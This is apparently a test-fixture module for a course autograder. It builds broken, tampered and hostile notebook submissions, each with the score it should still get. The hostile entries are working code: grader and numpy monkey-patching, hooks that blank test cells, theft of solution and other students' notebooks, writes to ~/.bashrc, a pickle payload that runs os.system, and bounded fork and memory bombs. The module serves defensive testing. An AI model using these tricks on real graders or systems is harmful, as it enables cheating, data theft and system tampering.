"""A corpus of bad, broken, faulty and hostile ps1 submissions, each with the points it deserves.

Every entry writes one submission folder (``submitted/<name>/ps1_rnn_forward/``). ``deserved`` is
what the submission's honest work earns; a grader must never give more. ``exact`` entries must get
exactly that (the fault or attack is confined to what it breaks); ``reason`` is a phrase the
recorded outcome must contain when the whole notebook cannot be graded.
"""
from __future__ import annotations

import json
import os
import pickle
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

from autograder.course import ROOT
from autograder.authoring.samples import fill, read_sample

A = "ps1_rnn_forward"
NB = f"{A}.ipynb"
CORRECT = read_sample(ROOT / "samples" / A / "sample_correct.py")
BUGGY = read_sample(ROOT / "samples" / A / "sample_buggy.py")
FULL = 90.0          # ps1's autograded points (the written answer is graded by hand)
BUGGY_SCORE = 37.0   # what sample_buggy earns (follow-through: its rnn_forward costs stacked_rnn_forward nothing)
# sample_buggy with its rnn_forward replaced by an attack's wrapper (subclass or object arrays, or
# arrays fished out of the garbage collector): the wrapper is the submission's rnn_forward, so the
# cells its own rnn_forward passed honestly (rnn_forward_edges, 6) earn nothing, and, as a function
# of *args no reference can stand in for, it costs stacked_rnn_forward's core (4) and edges (1) too.
BUGGY_WITHOUT_RNN_FORWARD = BUGGY_SCORE - 11.0
# ... replaced by a wrapper of *args that returns what the buggy rnn_forward returns: only
# stacked_rnn_forward_core (4) is lost, the one of its cells that the buggy rnn_forward fails
BUGGY_WRAPPED_RNN_FORWARD = BUGGY_SCORE - 4.0
SPECTRAL = 4.0       # spectral_radius: a leaf function nothing else calls


@dataclass
class Entry:
    name: str
    category: str          # broken file | tampered structure | fault | attack
    what: str
    build: Callable[[Path], None]
    deserved: float
    exact: bool = True
    reason: str | None = None
    extra_files: dict[str, bytes] = field(default_factory=dict)


def release() -> nbformat.NotebookNode:
    return nbformat.read(ROOT / "release" / A / NB, as_version=4)


def notebook(answers: dict | None = None, cells_after: dict[str, str] | None = None,
             transform: Callable | None = None) -> nbformat.NotebookNode:
    """The release filled with ``answers``; ``cells_after`` inserts a code cell after a grade_id."""
    nb = fill(release(), dict(answers or {}))
    for gid, code in (cells_after or {}).items():
        index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == gid)
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    if transform:
        transform(nb)
    return nb


def write_nb(nb_factory, name=NB):
    def build(folder: Path):
        nbformat.write(nb_factory(), folder / name)
    return build


def write_bytes(data: bytes, name=NB):
    def build(folder: Path):
        (folder / name).write_bytes(data)
    return build


def with_spectral(body: str) -> dict:
    """The correct answers, with spectral_radius replaced by a function whose body is ``body``."""
    return {**CORRECT, "spectral_radius": "def spectral_radius(W):\n" + body}


def test_cells(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
            and not c.metadata["nbgrader"].get("solution")]


def _valid_json_text() -> str:
    return nbformat.writes(notebook(CORRECT))


# ------------------------------------------------------------------ broken files
def _delete_tests(nb):
    nb.cells = [c for c in nb.cells if c not in test_cells(nb)]


def _duplicate_tests(nb):
    for c in test_cells(nb):
        nb.cells.append(nbformat.from_dict(json.loads(json.dumps(c))))


def _reverse_tests(nb):
    tests = test_cells(nb)
    positions = [nb.cells.index(c) for c in tests]
    for pos, cell in zip(positions, reversed(tests)):
        nb.cells[pos] = cell


def _rename_grade_ids(nb):
    for c in test_cells(nb):
        c.metadata.nbgrader["grade_id"] = c.metadata.nbgrader["grade_id"] + "_x"


def _inflate_points(nb):
    for c in test_cells(nb):
        c.metadata.nbgrader["points"] = 1000


def _unlock_and_rechecksum(nb):
    for c in test_cells(nb):
        c.metadata.nbgrader["locked"] = False
        c.metadata.nbgrader["checksum"] = "0" * 32
        c.source = "pass"


def _tests_to_markdown(nb):
    for c in test_cells(nb):
        c.cell_type = "markdown"
        c.pop("outputs", None)
        c.pop("execution_count", None)


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}


def _fake_pass_outputs(nb):
    for c in test_cells(nb):
        c.outputs = [nbformat.v4.new_output("stream", name="stdout", text="all cases passed\n")]
        c.execution_count = 1


def _partial_credit_claim(nb):
    for c in test_cells(nb):
        c.source = "1000.0"
        c.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "1000.0"}, execution_count=1)]


def _huge_output(nb):
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "rnn_step_forward")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * (50 * 1024 * 1024))]


def _v3(folder: Path):
    nbformat.write(nbformat.convert(notebook(CORRECT), 3), folder / NB, version=3)


ENTRIES: list[Entry] = [
    Entry("not_json", "broken file", "a text file named .ipynb", write_bytes(b"I forgot to save my notebook\n"), 0,
          reason="not valid JSON"),
    Entry("truncated_json", "broken file", "the first half of a notebook",
          write_bytes(_valid_json_text().encode()[:20000]), 0, reason="not valid JSON"),
    Entry("nbformat_v3", "broken file", "a correct notebook saved as nbformat 3", _v3, FULL, exact=False),
    Entry("empty_notebook", "broken file", "a valid notebook with no cells",
          write_nb(lambda: nbformat.v4.new_notebook()), 0),
    Entry("renamed_notebook", "broken file", "correct work under another file name",
          write_nb(lambda: notebook(CORRECT), name="my_ps1.ipynb"), 0, reason="missing"),
    Entry("missing_notebook", "broken file", "an empty submission folder", lambda folder: None, 0, reason="missing"),
    Entry("extra_notebook", "broken file", "correct work plus a scratch notebook",
          lambda f: (write_nb(lambda: notebook(CORRECT))(f), write_nb(lambda: notebook(BUGGY), "scratch.ipynb")(f)),
          FULL),
    Entry("non_utf8", "broken file", "correct work with invalid UTF-8 bytes inside the JSON",
          write_bytes(_valid_json_text().encode().replace(b"Problem set 1", b"Probl\xe8me \xff\xfe 1")), FULL,
          exact=False),
    Entry("huge_output", "broken file", "correct work with a 50 MB output saved in a cell",
          write_nb(lambda: notebook(CORRECT, transform=_huge_output)), FULL),
    Entry("binary_junk", "broken file", "random bytes named .ipynb", write_bytes(os.urandom(4096)), 0,
          reason="not valid JSON"),
    # -------------------------------------------------------------- tampered structure
    Entry("tests_deleted", "tampered structure", "correct work with every test cell deleted",
          write_nb(lambda: notebook(CORRECT, transform=_delete_tests)), FULL),
    Entry("tests_deleted_buggy", "tampered structure", "buggy work with every test cell deleted",
          write_nb(lambda: notebook(BUGGY, transform=_delete_tests)), BUGGY_SCORE),
    Entry("tests_duplicated", "tampered structure", "buggy work with every test cell appended twice",
          write_nb(lambda: notebook(BUGGY, transform=_duplicate_tests)), BUGGY_SCORE),
    Entry("tests_reordered", "tampered structure", "buggy work with the test cells in reverse order",
          write_nb(lambda: notebook(BUGGY, transform=_reverse_tests)), BUGGY_SCORE),
    Entry("grade_ids_renamed", "tampered structure", "buggy work with renamed test grade_ids",
          write_nb(lambda: notebook(BUGGY, transform=_rename_grade_ids)), BUGGY_SCORE),
    Entry("points_inflated", "tampered structure", "buggy work claiming 1000 points per test",
          write_nb(lambda: notebook(BUGGY, transform=_inflate_points)), BUGGY_SCORE),
    Entry("tests_unlocked_emptied", "tampered structure", "test cells unlocked, emptied, checksums forged",
          write_nb(lambda: notebook(BUGGY, transform=_unlock_and_rechecksum)), BUGGY_SCORE),
    Entry("tests_as_markdown", "tampered structure", "test cells turned into markdown",
          write_nb(lambda: notebook(BUGGY, transform=_tests_to_markdown)), BUGGY_SCORE),
    Entry("other_kernelspec", "tampered structure", "correct work declaring an R kernel",
          write_nb(lambda: notebook(CORRECT, transform=_kernelspec)), FULL),
    Entry("cell_between_redefines_check", "tampered structure", "a cell between a solution and its test: check = no-op",
          write_nb(lambda: notebook({}, cells_after={"rnn_step_forward": "check = lambda *a, **k: None"})), 0),
    Entry("fake_pass_outputs", "tampered structure", "stubs with test outputs pre-filled to look like passes",
          write_nb(lambda: notebook({}, transform=_fake_pass_outputs)), 0),
    Entry("partial_credit_claim", "tampered structure", "test cells replaced by a number claiming credit",
          write_nb(lambda: notebook({}, transform=_partial_credit_claim)), 0),
    # -------------------------------------------------------------- faults (in spectral_radius only)
    Entry("infinite_loop", "fault", "while True: pass", write_nb(lambda: notebook(with_spectral("    while True:\n        pass\n"))),
          FULL - SPECTRAL),
    Entry("sleep", "fault", "time.sleep(10**6)", write_nb(lambda: notebook(with_spectral(
        "    import time\n    time.sleep(10**6)\n"))), FULL - SPECTRAL),
    Entry("input", "fault", "input() waits for a keyboard", write_nb(lambda: notebook(with_spectral(
        "    return float(input('radius? '))\n"))), FULL - SPECTRAL),
    Entry("sigint_ignored", "fault", "SIGINT ignored, then a loop", write_nb(lambda: notebook(with_spectral(
        "    import signal\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass\n"))),
          FULL - SPECTRAL),
    Entry("memory_bomb", "fault", "allocate without end", write_nb(lambda: notebook(with_spectral(
        "    hog = []\n    while True:\n        hog.append(bytearray(100 * 2**20))\n"))), FULL - SPECTRAL),
    # The bombs are bounded (300 processes, 3000 threads) so that even an unprotected run (stock
    # nbgrader, as root, where RLIMIT_NPROC does not apply) cannot take the machine down.
    Entry("fork_bomb", "fault", "300 forked processes that linger", write_nb(lambda: notebook(with_spectral(
        "    import os, time\n    for _ in range(300):\n        try:\n            if os.fork() == 0:\n"
        "                time.sleep(600)\n                os._exit(0)\n        except OSError:\n            pass\n"
        "    return 0.0\n"))), FULL - SPECTRAL),
    Entry("thread_bomb", "fault", "3000 threads that linger", write_nb(lambda: notebook(with_spectral(
        "    import threading, time\n    for _ in range(3000):\n        try:\n"
        "            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n"
        "        except RuntimeError:\n            break\n    return 0.0\n"))), FULL - SPECTRAL),
    Entry("disk_filler", "fault", "write until the disk is full", write_nb(lambda: notebook(with_spectral(
        "    with open('fill.bin', 'wb') as f:\n        while True:\n            f.write(b'0' * 2**24)\n"))),
          FULL - SPECTRAL, exact=False),
    Entry("stdout_flood", "fault", "print without end", write_nb(lambda: notebook(with_spectral(
        "    while True:\n        print('spam' * 1000)\n"))), FULL - SPECTRAL),
    Entry("recursion", "fault", "runaway recursion", write_nb(lambda: notebook(with_spectral(
        "    import sys\n    sys.setrecursionlimit(10**8)\n    return spectral_radius(W)\n"))), FULL - SPECTRAL,
          exact=False),
    Entry("segfault", "fault", "a segfault through ctypes", write_nb(lambda: notebook(with_spectral(
        "    import ctypes\n    return float(ctypes.string_at(0))\n"))), FULL - SPECTRAL),
    Entry("os_exit", "fault", "os._exit(0) mid-check", write_nb(lambda: notebook(with_spectral(
        "    import os\n    os._exit(0)\n"))), FULL - SPECTRAL),
    Entry("sys_exit", "fault", "sys.exit() mid-check", write_nb(lambda: notebook(with_spectral(
        "    import sys\n    sys.exit(0)\n"))), FULL - SPECTRAL),
    Entry("base_exception", "fault", "raise a BaseException subclass", write_nb(lambda: notebook(with_spectral(
        "    class Escape(BaseException):\n        pass\n    raise Escape()\n"))), FULL - SPECTRAL),
    Entry("kill_parent", "fault", "kill the parent process", write_nb(lambda: notebook(with_spectral(
        "    import os, signal\n    os.kill(os.getppid(), signal.SIGKILL)\n    return 0.0\n"))), FULL - SPECTRAL),
    Entry("top_level_exit", "fault", "sys.exit() at the top level of a cell",
          write_nb(lambda: notebook(CORRECT, cells_after={"setup": "import sys\nsys.exit('bye')"})), FULL, exact=False),
]


# ------------------------------------------------------------------ attacks (on buggy work: deserved BUGGY_SCORE)
def _attack(name, what, code, after="rnn_step_forward", extra_files=None, deserved=BUGGY_SCORE, answers=None,
            exact=True):
    ENTRIES.append(Entry(name, "attack", what, write_nb(lambda: notebook(BUGGY if answers is None else answers,
                                                                          cells_after={after: code})),
                         deserved, exact, extra_files=extra_files or {}))


_attack("patch_allclose", "np.allclose and np.testing.assert_allclose always agree",
        "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
        "np.array_equal = lambda *a, **k: True")
_attack("patch_abs_and_any", "np.abs returns zeros, ndarray.any is False",
        "import numpy as np\n_real_abs = np.abs\nnp.abs = lambda x, *a, **k: _real_abs(x) * 0\n")
_attack("patch_check_module", "the check function and the comparison module patched",
        "import autograder, autograder.checks.api as ac, autograder.checks.compare as cm\n"
        "cm.describe_difference = lambda *a, **k: None\nac.judge = lambda *a, **k: None\n"
        "ac.check = autograder.check = lambda *a, **k: None\ncheck = lambda *a, **k: None")
_attack("patch_builtins", "builtins: AssertionError replaced, isinstance always True",
        "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n"
        "_isinstance = builtins.isinstance\nbuiltins.isinstance = lambda *a: True")
_attack("rigged_eq_subclass", "an ndarray subclass whose == always agrees",
        "import numpy as np\nclass Agree(np.ndarray):\n    def __eq__(self, o): return np.ones(self.shape, bool)\n"
        "    def __ne__(self, o): return np.zeros(self.shape, bool)\n"
        "_fwd = rnn_forward\nrnn_forward = lambda *a, **k: tuple(np.asarray(v).view(Agree) for v in _fwd(*a, **k))",
        after="rnn_forward", deserved=BUGGY_WITHOUT_RNN_FORWARD)
_attack("array_function_subclass", "an ndarray subclass whose __array_function__ answers True",
        "import numpy as np\nclass Yes(np.ndarray):\n    def __array_function__(self, f, t, a, k): return True\n"
        "    def __array_ufunc__(self, *a, **k): return np.zeros(1)\n"
        "_fwd = rnn_forward\nrnn_forward = lambda *a, **k: tuple(np.asarray(v).view(Yes) for v in _fwd(*a, **k))",
        after="rnn_forward", deserved=BUGGY_WITHOUT_RNN_FORWARD)
_attack("input_transformer", "an IPython input transformer that blanks every later cell",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")
_attack("ast_transformer", "an IPython AST transformer that empties every later cell",
        "import ast\nclass Blank(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
        "        node.body = []\n        return node\nget_ipython().ast_transformers.append(Blank())")
_attack("custom_exc", "set_custom_exc swallows AssertionError",
        "get_ipython().set_custom_exc((AssertionError, NotImplementedError), lambda *a, **k: None)")
_attack("showtraceback", "showtraceback overridden to print nothing",
        "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\nip._showtraceback = lambda *a, **k: None")
_attack("post_run_event", "a post_run_cell event that clears the error",
        "def clear(result):\n    result.error_in_exec = None\n"
        "get_ipython().events.register('post_run_cell', clear)")
_attack("frame_walk", "walk the caller's frames and copy the expected value",
        "import sys\n_real = rnn_forward\ndef rnn_forward(*a, **k):\n    f = sys._getframe(1)\n"
        "    while f is not None:\n        if 'expected' in f.f_locals:\n"
        "            return tuple(v.astype(a[0].dtype) for v in f.f_locals['expected'])\n"
        "        f = f.f_back\n    return _real(*a, **k)", after="rnn_forward", deserved=BUGGY_WRAPPED_RNN_FORWARD)
_attack("gc_walk", "search the garbage collector for the expected arrays",
        "import gc, numpy as np\n_real = rnn_forward\ndef rnn_forward(x, h0, *rest):\n"
        "    for o in gc.get_objects():\n        if isinstance(o, tuple) and len(o) == 2 and all(isinstance(v, np.ndarray) for v in o) "
        "and o[0].ndim == 3 and o[0].shape[:2] == x.shape[:2] and o[0].dtype == np.float64 and not np.shares_memory(o[0], x):\n"
        "            return tuple(v.astype(x.dtype) for v in o)\n"
        "    return _real(x, h0, *rest)", after="rnn_forward",
        # what the sandbox's memory happens to hold decides whether the walk finds a look-alike (0 on the
        # cells it answers) or nothing (the buggy rnn_forward's own answer): at most the wrapped score
        deserved=BUGGY_WRAPPED_RNN_FORWARD, exact=False)
_attack("numpy_shadow", "a numpy.py file beside the notebook", "import numpy\nassert numpy.SHADOWED",
        extra_files={"numpy.py": b"SHADOWED = True\nallclose = lambda *a, **k: True\n"})
_attack("sitecustomize", "sitecustomize.py and usercustomize.py beside the notebook", "pass",
        extra_files={"sitecustomize.py": b"import builtins\nbuiltins.__dict__['AssertionError'] = KeyError\n",
                     "usercustomize.py": b"import builtins\nbuiltins.__dict__['AssertionError'] = KeyError\n"})
_attack("pth_file", "a .pth file that runs code at start-up", "pass",
        extra_files={"evil.pth": b"import os; os.environ['PWNED'] = '1'\n"})
FUNCTIONS = [k for k in CORRECT if k != "ANSWERS" and not k.startswith("written")]


def _steal(globs: list[str], must_contain: str = "") -> dict:
    """Every solution cell runs the same code: find a notebook with working functions and exec them."""
    code = ("import glob, json\n"
            f"for _path in {globs!r}:\n"
            "    for _nb in glob.glob(_path, recursive=True):\n"
            f"        if {must_contain!r} not in _nb:\n            continue\n"
            "        try:\n            _cells = json.load(open(_nb))['cells']\n        except Exception:\n            continue\n"
            "        for _c in _cells:\n            _src = ''.join(_c['source'])\n"
            "            if _c['cell_type'] == 'code' and _src.startswith('def ') and 'NotImplementedError' not in _src:\n"
            "                exec(_src, globals())\n")
    return {name: code for name in FUNCTIONS}


ENTRIES.append(Entry("read_source", "attack", "every answer cell finds the source notebook (the solutions) and runs it",
                     write_nb(lambda: notebook(_steal(["../../../source/ps1_rnn_forward/*.ipynb",
                                                       "/work/**/source/ps1_rnn_forward/*.ipynb",
                                                       "/tmp/**/source/ps1_rnn_forward/*.ipynb"]))), 0))
ENTRIES.append(Entry("read_other_student", "attack", "every answer cell copies another student's functions",
                     write_nb(lambda: notebook(_steal(["../../*/ps1_rnn_forward/*.ipynb",
                                                       "/tmp/**/submitted/*/ps1_rnn_forward/*.ipynb"],
                                                      must_contain="tests_deleted/"))), 0))
_attack("write_outside", "write start-up files and tamper with the course and other submissions",
        "import os, pathlib\nfor d in [os.path.expanduser('~/.ipython/profile_default/startup'), '/tmp/rnn_course_evil_startup']:\n"
        "    try:\n        pathlib.Path(d).mkdir(parents=True, exist_ok=True)\n"
        "        pathlib.Path(d, '00-evil.py').write_text('check = lambda *a, **k: None\\n')\n"
        "    except OSError:\n        pass\n"
        "for target in ['../../../nbgrader_config.py', '../../extra_notebook/ps1_rnn_forward/ps1_rnn_forward.ipynb',\n"
        "               os.path.expanduser('~/.bashrc')]:\n"
        "    try:\n        open(target, 'a').write('\\n# tampered\\n')\n    except OSError:\n        pass")
NETWORK_PORT = 47231     # the corpus test listens here on loopback and counts connections
_attack("network", "open a network connection (to a listener on loopback)",
        f"import socket\ns = socket.socket()\ns.settimeout(2)\ntry:\n    s.connect(('127.0.0.1', {NETWORK_PORT}))\n"
        "    s.sendall(b'leak')\nexcept OSError:\n    pass")
TORCH_RNN = ("def rnn_forward(x, h0, W_xh, W_hh, b_h, nonlinearity='tanh'):\n"
             "    m = torch.nn.RNN(*W_xh.shape, nonlinearity=nonlinearity, batch_first=True).double()\n"
             "    with torch.no_grad():\n"
             "        m.weight_ih_l0.copy_(torch.tensor(W_xh.T)); m.weight_hh_l0.copy_(torch.tensor(W_hh.T))\n"
             "        m.bias_ih_l0.copy_(torch.tensor(b_h)); m.bias_hh_l0.zero_()\n"
             "    out, h = m(torch.tensor(x, dtype=torch.float64), None if h0 is None else torch.tensor(h0, dtype=torch.float64)[None])\n"
             "    return out.detach().numpy().astype(x.dtype), h[0].detach().numpy().astype(x.dtype)\n")
_attack("import_torch", "use torch.nn.RNN as the answer", "import torch\n" + TORCH_RNN, after="rnn_forward")
_attack("import_torch_importlib", "torch through importlib, __import__ and sys.path games",
        "import importlib, sys\nfor p in list(sys.path):\n    sys.path.append(p.replace('sandbox', ''))\n"
        "try:\n    torch = importlib.import_module('torch')\nexcept ImportError:\n"
        "    torch = __import__('tor' + 'ch')\n" + TORCH_RNN, after="rnn_forward")
PWNED = Path("/tmp/rnn_course_pickle_pwned")   # a loaded payload creates this file


class _Payload:
    def __reduce__(self):
        return (os.system, (f"touch {PWNED}",))


_PICKLE = pickle.dumps(_Payload())
_attack("pickle_payload", "object arrays whose unpickling runs a command, and pickles named like result files",
        "import numpy as np, os\n"
        "class Evil:\n"
        f"    def __reduce__(self):\n        return (os.system, ('touch {PWNED}',))\n"
        "def rnn_forward(*a, **k):\n"
        "    bad = np.empty(1, dtype=object)\n    bad[0] = Evil()\n    return bad, {'x': Evil()}\n"
        "for name in ['results.npz', 'outputs.npy', 'result.pkl', 'rnn_forward.npy']:\n"
        "    try:\n        np.save(name, np.array([Evil()], dtype=object), allow_pickle=True)\n    except Exception:\n        pass\n",
        after="rnn_forward", deserved=BUGGY_WITHOUT_RNN_FORWARD,
        extra_files={name: _PICKLE for name in ["results.npz", "outputs.npy", "result.pkl", "rnn_forward.npy"]})
_attack("autograder_shadow", "a fake autograder package beside the notebook", "pass",
        extra_files={"autograder.py": b"def check(*a, **k):\n    pass\n"})


def build_submission(entry: Entry, course_dir: Path, student: str | None = None) -> Path:
    folder = course_dir / "submitted" / (student or entry.name) / A
    folder.mkdir(parents=True, exist_ok=True)
    entry.build(folder)
    for name, data in entry.extra_files.items():
        (folder / name).write_bytes(data)
    return folder
